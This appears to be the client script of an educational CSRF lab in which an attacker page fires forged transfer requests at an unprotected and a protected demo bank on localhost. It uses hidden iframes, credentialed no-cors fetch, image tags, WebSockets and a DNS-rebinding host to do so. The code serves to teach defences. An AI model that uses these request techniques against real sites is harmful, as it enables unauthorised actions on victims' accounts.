// Runs in the browser, on the attacker's page: attacks both banks, and shows what happened.

const { origins } = JSON.parse(document.querySelector('#play').textContent)
const banks = ['unprotected', 'protected']

// What a page can send to a bank. Each attempt has a name, under which the bank records the outcome.
const vehicles = {
  form: (bank, attempt) => openFrame(`${origins.crossSite}/attack/${bank}/transfer/${attempt}`),
  neighbour: (bank, attempt) => openFrame(`${origins.sameSite}/attack/${bank}/strict/${attempt}`),
  fetch (bank, attempt) {
    const body = new URLSearchParams({ amount: '100' })
    fetch(`${origins[bank]}/strict?attempt=${attempt}`, { method: 'POST', mode: 'no-cors', credentials: 'include', body }).catch(() => {})
  },
  webSocket (bank, attempt) {
    const socket = new WebSocket(`${origins[bank].replace('http', 'ws')}/orders?attempt=${attempt}`)
    socket.onopen = () => socket.send('100')
  },
  image: (bank, attempt) => { new Image().src = `${origins[bank]}/pay?amount=100&attempt=${attempt}` },
  reload: (bank, attempt) => openFrame(`${origins.crossSite}/attack/${bank}/reloading/${attempt}`),
  rebinding: (bank, attempt) => openFrame(`${origins[bank].replace('localhost', 'attacker.localhost')}/rebound/${attempt}`)
}

function openFrame (src) {
  document.body.append(Object.assign(document.createElement('iframe'), { src, hidden: true }))
}

async function attack (vehicle) {
  for (const bank of banks) {
    const place = document.querySelector(`#${vehicle} [data-at=${bank}]`)
    show(place, 'waiting', 'Sending …')
    const attempt = `${vehicle}-${crypto.randomUUID()}`
    vehicles[vehicle](bank, attempt)
    describe(place, await outcomeOf(bank, attempt, vehicle === 'reload' ? 2 : 1))
  }
}

/** What the bank recorded after so many requests, or in five seconds; undefined if no such attempt reached it. */
async function outcomeOf (bank, attempt, requests) {
  let outcome
  for (let i = 0; i < 50 && !(outcome?.requests >= requests); i++) {
    await new Promise(resolve => setTimeout(resolve, 100))
    const response = await fetch(`/outcomes/${bank}/${attempt}`)
    if (response.ok) outcome = await response.json()
  }
  return outcome
}

function describe (place, outcome) {
  if (outcome === undefined) return show(place, 'kept', 'The browser sent nothing')
  const { moved, status, message, reason } = outcome
  if (moved > 0) show(place, 'moved', `${moved} € gone`, element('p', message))
  else show(place, 'kept', 'Refused', element('p', message), element('code', `${status} ${reason}`))
}

function show (place, state, title, ...rest) {
  place.dataset.state = state
  place.replaceChildren(element('strong', title), ...rest)
}

function element (name, text) {
  return Object.assign(document.createElement(name), { textContent: text })
}

/** Reloads the banks' pages, to show the new balances. */
async function reload () {
  await Promise.all(banks.map(bank => new Promise(resolve => {
    const frame = document.querySelector(`iframe[name=${bank}]`)
    frame.onload = resolve
    frame.src = origins[bank]
  })))
}

/** Does one thing at a time. The buttons keep the focus, and look disabled while they wait. */
async function busy (act) {
  const { body } = document
  if (body.ariaBusy === 'true') return
  body.ariaBusy = 'true'
  await act()
  await reload()
  body.ariaBusy = 'false'
}

for (const button of document.querySelectorAll('[data-attack]')) {
  button.onclick = () => busy(() => attack(button.dataset.attack))
}
document.querySelector('#all').onclick = () => busy(async () => {
  for (const button of document.querySelectorAll('details [data-attack]')) await attack(button.dataset.attack)
})
document.querySelector('#again').onclick = () => busy(async () => {
  await fetch('/again', { method: 'POST' })
  for (const place of document.querySelectorAll('[data-at]')) place.replaceChildren()
})
